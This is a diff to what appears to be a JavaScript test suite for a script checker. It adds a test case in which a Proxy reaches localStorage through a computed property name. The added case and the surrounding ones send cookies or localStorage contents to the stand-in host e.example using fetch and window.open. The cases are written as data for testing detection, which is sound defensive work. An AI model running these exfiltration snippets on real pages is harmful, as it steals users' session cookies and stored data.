@@ -57,6 +57,10 @@ describe('the checks hold a script', () => {
     ['that makes a function of a tagged text', 'Function`fetch("https://e.example/?" + document.cookie)` ``;'],
     ['that names a window by the storage', 'window.open("https://e.example/", JSON.stringify(localStorage));'],
     [
+      'that finds the storage by the name of a property of a proxy',
+      'const p = new Proxy({}, { get: (_, name) => window[`${name}Storage`] }); fetch("https://e.example/", { method: "PUT", body: JSON.stringify(p.local) });',
+    ],
+    [
       'that reads a cookie in a proxy',
       'const p = new Proxy({}, { get: () => document.cookie }); fetch("https://e.example/?" + p.a);',
     ],
